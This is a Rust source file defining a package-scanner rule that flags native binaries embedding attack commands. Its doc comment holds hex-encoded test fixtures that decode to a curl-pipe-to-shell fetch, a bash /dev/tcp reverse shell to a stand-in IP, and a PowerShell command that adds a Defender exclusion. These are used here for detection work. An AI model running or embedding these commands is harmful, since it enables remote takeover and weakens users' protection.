//! # Machine code holds a command of an attack
//!
//! A native module or program of the package holds a command line that runs a program from a place for throw-away files,
//! gives a shell to another machine, or takes itself out of the system's protection.
//!
//! ## Why it matters
//!
//! Machine code needs no shell for honest work, and what it starts cannot be read from its code. The command line can.
//!
//! ## Known benign uses
//!
//! Runtimes and package managers hold the command that installs them, with their own host; that is not reported.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! module.exports = require("./addon.node");
//! == addon.node hex //~ 1
//! 7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
//! 0073797374656d006375726c202d7320687474703a2f2f3139382e35312e3130302e373a383038302f75207c20736800
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node run.js"}}
//! == run.js
//! require("child_process").execFileSync(__dirname + "/bin/check");
//! == bin/check hex //~ 1
//! 7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
//! 002f62696e2f626173680062617368202d69203e26202f6465762f7463702f3139382e35312e3130302e372f34343320
//! 303e263100
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! module.exports = require("bindings")("x");
//! == build/Release/x.node hex //~ 1
//! 7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
//! 0070006f007700650072007300680065006c006c0020002d0043006f006d006d0061006e00640020004100640064002d
//! 004d00700050007200650066006500720065006e006300650020002d004500780063006c007500730069006f006e0050
//! 00610074006800200043003a005c0000
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "@oven/bun-linux-x64", "version": "1.0.0", "bin": {"bun": "bin/bun"}}
//! == bin/bun hex
//! 7f454c4602010100000000000000000003003e0001000000780040000000000040000000000000000000000000000000
//! 0062756e2075706772616465006375726c202d6673534c2068747470733a2f2f62756e2e73682f696e7374616c6c207c
//! 206261736800706f7765727368656c6c202d632069726d2062756e2e73682f696e7374616c6c2e707331207c20696578
//! 00
//! ```
//!
//! ## References
//!
//! - MITRE ATT&CK T1059, Command and Scripting Interpreter

use stockade_facts::native::HeldKind;

use crate::prelude::*;

/// Machine code holds a command of an attack.
pub struct NativeCodeHoldsAttackCommand;

impl Rule for NativeCodeHoldsAttackCommand {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "native-code-holds-attack-command",
            title: "Machine code holds a command of an attack",
            tier: Tier::FileList,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1059",
            covers: &["native-node-binary", "impact-remote-shell"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for native in facts.natives() {
            if let Some(held) = native.held.iter().find(|held| held.kind == HeldKind::Command) {
                let does = format!("is machine code that holds the command `{}`", excerpt(&held.text, 120));
                found.at(facts.native_trigger(&native.path), &Locus::whole(native.path.as_str()), &does);
            }
        }
    }
}
